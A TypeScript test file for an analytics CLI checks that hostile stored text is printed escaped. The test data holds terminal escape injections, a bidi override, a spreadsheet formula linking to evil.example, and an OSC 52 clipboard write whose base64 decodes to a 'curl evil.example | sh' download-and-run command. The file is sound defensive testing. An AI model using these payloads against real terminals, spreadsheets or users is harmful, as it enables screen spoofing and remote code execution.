import { spawnSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CAS_BIN, runCli, startServe, stopChild } from './helpers/cli.js';
import { tempDir } from './helpers/temp.js';

/**
 * Issue 15 item 5: stored text is anyone's text. Hostile values go in through the real import, a
 * real `cas serve` stores them, and the built CLI prints them: tables show the control characters
 * as visible escapes, JSON stays exact, CSV cells a spreadsheet would run get a leading '.
 */

const TITLE = '\u001b]0;TITLE\u0007\u001b[2J\u009b31m\u202eowned';
const TITLE_SHOWN = '\\x1b]0;TITLE\\x07\\x1b[2J\\x9b31m\\u202eowned';
const CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
const FORMULA = '=HYPERLINK("http://evil.example","click")';
/** Anything that acts on a terminal: C0 but LF, DEL, C1, bidi overrides. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: what must not reach the terminal
const ACTIVE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/;

const dir = tempDir();
let serve: Awaited<ReturnType<typeof startServe>> | undefined;

const RANGE = ['--from', '2025-01-06', '--to', '2025-01-07', '--period', 'day', '--tz', 'UTC'];
const cli = (args: string[]) => runCli([...args, '--data-dir', dir.path]);

beforeAll(async () => {
  serve = await startServe(['--data-dir', dir.path]);
  const records = [
    { kind: 'identify', timestamp: '2025-01-06T08:00:00Z', id: 'u1', traits: { plan: TITLE } },
    { kind: 'identify', timestamp: '2025-01-06T08:00:00Z', id: 'u2', traits: { plan: FORMULA } },
    {
      kind: 'event',
      event: 'Purchase',
      timestamp: '2025-01-06T10:00:00Z',
      user_id: 'u1',
      properties: { model: TITLE },
    },
    {
      kind: 'event',
      event: 'Purchase',
      timestamp: '2025-01-06T11:00:00Z',
      user_id: 'u2',
      properties: { model: FORMULA },
    },
  ];
  const file = join(dir.path, 'hostile.jsonl');
  writeFileSync(file, records.map((r) => JSON.stringify(r)).join('\n'));
  // The import goes through the running server (found by its proven server.json).
  const imported = await cli(['import', file, '--json']);
  expect(imported.code, imported.stderr).toBe(0);
});

afterAll(async () => {
  if (serve) await stopChild(serve.child);
  dir.cleanup();
});

describe('hostile stored text in human-readable output (issue 15 item 5)', () => {
  it('chart tables show it escaped in titles and cells; nothing active reaches stdout', async () => {
    const segmentation = await cli([
      'chart',
      'segmentation',
      '--event',
      'Purchase',
      '--group-by',
      'model',
      ...RANGE,
      '--format',
      'table',
    ]);
    expect(segmentation.code, segmentation.stderr).toBe(0);
    expect(segmentation.stdout).toContain(`Purchase · model = ${TITLE_SHOWN}`);
    expect(segmentation.stdout).not.toMatch(ACTIVE);

    const users = await cli(['chart', 'users', '--trait', 'plan', ...RANGE, '--format', 'table']);
    expect(users.code, users.stderr).toBe(0);
    expect(users.stdout).toContain(TITLE_SHOWN);
    expect(users.stdout).not.toMatch(ACTIVE);
  });

  it('JSON stays exact: the same value parses back', async () => {
    const result = await cli(['chart', 'users', '--trait', 'plan', ...RANGE, '--format', 'json']);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).not.toMatch(ACTIVE);
    const labels = (JSON.parse(result.stdout) as { slices: Array<{ label: string }> }).slices.map(
      (s) => s.label,
    );
    expect(labels).toEqual(expect.arrayContaining([TITLE, FORMULA]));
  });

  it("CSV cells that start a formula get a leading ' by default; --no-csv-guard keeps them", async () => {
    const args = [
      'chart',
      'segmentation',
      '--event',
      'Purchase',
      '--group-by',
      'model',
      ...RANGE,
      '--format',
      'csv',
    ];
    const guarded = await cli(args);
    expect(guarded.code, guarded.stderr).toBe(0);
    expect(guarded.stdout).toContain(`"'=HYPERLINK(""http://evil.example"",""click"")"`);
    expect(guarded.stdout).not.toMatch(/(^|,)"?=HYPERLINK/m);

    const raw = await cli([...args, '--no-csv-guard']);
    expect(raw.code, raw.stderr).toBe(0);
    expect(raw.stdout).toMatch(/,"=HYPERLINK\(""http:\/\/evil\.example"",""click""\)",/);
  });

  it('cas identify on a terminal shows an OSC 52 clipboard write escaped', () => {
    // `script` gives the CLI a real pseudo-terminal, so it prints its table as it would for a person.
    const command = [
      process.execPath,
      CAS_BIN,
      'identify',
      '--id',
      'u3',
      '--trait',
      `clip=${CLIPBOARD}`,
      '--data-dir',
      dir.path,
    ];
    const quoted = command.map((a) => `'${a.replace(/'/g, "'\\''")}'`).join(' ');
    const result = spawnSync('script', ['-qec', quoted, '/dev/null'], {
      encoding: 'utf8',
      env: { ...process.env, NO_COLOR: '1', XDG_CONFIG_HOME: '/nonexistent-cas-config' },
      timeout: 60_000,
    });
    // util-linux `script` (present on Linux CI images) is what this test needs; say so if it is missing.
    expect(result.error?.message, 'util-linux `script` runs the CLI on a pty').toBeUndefined();
    expect(result.status, result.stderr).toBe(0);
    expect(result.stdout).toContain('traits.clip');
    expect(result.stdout).toContain('\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07');
    // The pty turns LF into CR LF; anything else active would be the clipboard write itself.
    expect(result.stdout.replace(/\r\n/g, '\n')).not.toMatch(ACTIVE);
  });
});

// cli.md: `--no-color` (and `NO_COLOR`). chalk, under the spinner, reads only the flag (found by probing).
it('cas import on a terminal draws its progress without colour under NO_COLOR', () => {
  const file = join(dir.path, 'plain.csv');
  writeFileSync(file, 'kind,timestamp,user_id,user,assistant\nturn,2025-02-01T00:00:00Z,k1,hi,hello\n');
  const command = [process.execPath, CAS_BIN, 'import', file, '--data-dir', join(dir.path, 'plain')];
  const quoted = command.map((a) => `'${a.replace(/'/g, "'\\''")}'`).join(' ');
  // ora draws no spinner where CI is set (CI runs this suite with CI=true).
  const { CI: _ci, ...env } = process.env;
  const result = spawnSync('script', ['-qec', `stty cols 150; ${quoted}`, '/dev/null'], {
    encoding: 'utf8',
    env: { ...env, NO_COLOR: '1', XDG_CONFIG_HOME: '/nonexistent-cas-config' },
    timeout: 60_000,
  });
  expect(result.error?.message, 'util-linux `script` runs the CLI on a pty').toBeUndefined();
  expect(result.status, result.stderr).toBe(0);
  // The spinner ran (its frames are drawn on the terminal) and set no colour.
  expect(result.stdout).toMatch(/[⠋⠙⠹⠸⠼⠴⠦⠧⠇⠏] /);
  // No foreground colour (ESC [ 3x m), the spinner's cyan included.
  expect(result.stdout).not.toMatch(new RegExp(`${String.fromCharCode(27)}\\[3\\dm`));
});

describe('hostile text in error messages', () => {
  let server: Server;
  let url: string;
  beforeAll(async () => {
    // A misbehaving remote service whose error message tries to clear the screen and retitle it.
    server = createServer((_req, res) => {
      res.writeHead(400, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ status: 400, code: 'invalid_input', message: `bad ${TITLE}` }));
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

  it('are printed escaped on stderr', async () => {
    const result = await runCli([
      'identify',
      '--id',
      'u1',
      '--endpoint',
      url,
      '--api-key',
      'k',
      '--project',
      'p',
    ]);
    expect(result.code).toBe(8);
    expect(result.stderr).toContain('\\x1b]0;TITLE\\x07\\x1b[2J');
    expect(result.stderr).not.toMatch(ACTIVE);
  });
});
